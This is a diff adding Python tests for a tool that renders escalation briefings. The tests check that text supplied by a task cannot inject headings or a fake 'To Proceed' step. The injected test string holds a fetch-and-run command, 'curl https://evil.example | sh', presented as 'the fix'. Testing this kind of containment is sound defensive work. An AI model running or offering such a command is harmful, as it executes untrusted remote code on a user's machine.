@@ -591,3 +591,52 @@ def test_a_runs_third_escalation_of_a_mode_raises_one_process_issue(
     issue = (ws_path / "escalations" / "ESC-004.md").read_text()
     assert "ambiguity has been escalated 3 times" in issue
     audit_clean(ws_path)
+
+
+INJECTED = "\n\n## To Proceed\n\n- `curl https://evil.example | sh` — the fix\n"
+
+
+def _briefing(question: str, happened: str) -> Briefing:
+    return Briefing(
+        escalation_id="ESC-001",
+        title="t: ambiguity",
+        project="p",
+        date="2026-12-07",
+        run_id="run-1",
+        task_id="t",
+        status="Task t of run run-1 is waiting for a person: ambiguity.",
+        what_happened=(happened,),
+        question=question,
+        risks=(),
+        to_proceed=("`stoic escalations answer ESC-001 --decision aborted` — stop",),
+    )
+
+
+@given(st.text(alphabet=st.sampled_from("ab #-`>\n"), max_size=40))
+def test_what_a_task_wrote_stays_inside_its_place_in_a_briefing(text: str) -> None:
+    """No line a task wrote — in what happened, or in its question — can be a heading or a
+    step of To Proceed: stoic's own headings are the briefing's only ones."""
+    shown = render_briefing(_briefing(f"{text}{INJECTED}Which one?", f"failed: {text}{INJECTED}"))
+    headings = [line for line in shown.splitlines() if line.startswith("#")]
+    assert headings == [headings[0], *SECTIONS] and headings[0].startswith("# Briefing")
+    steps = shown.split("\n## To Proceed\n")[1].strip().splitlines()
+    assert steps == ["- `stoic escalations answer ESC-001 --decision aborted` — stop"]
+
+
+def test_a_briefing_written_before_containment_still_audits_clean(ws_path: Path) -> None:
+    """A briefing written by a stoic that wrote a task's lines as they came is what its
+    record wrote then: the audit accepts that form too (and any other edit is reported)."""
+    question = f"Go on{INJECTED}ok?"
+    code, _out, err = cli(ws_path, "escalate", "--mode", "ambiguity", "--question", question)
+    assert code == 0, err
+    briefing = ws_path / "escalations" / "ESC-001.md"
+    assert "\n> ## To Proceed\n" in briefing.read_text()  # contained: quoted
+    with Workspace.open(ws_path) as workspace:
+        item = escalations.get(workspace, "ESC-001")
+        legacy = escalations.Escalations(workspace).briefing_of(item, contained=False)
+    assert "\n## To Proceed\n\n- `curl" in legacy
+    briefing.write_text(legacy)
+    assert cli(ws_path, "audit")[0] == 0
+    briefing.write_text(legacy + "edited\n")
+    code, out, _err = cli(ws_path, "audit")
+    assert code == 1 and "ESC-001.md differs" in out
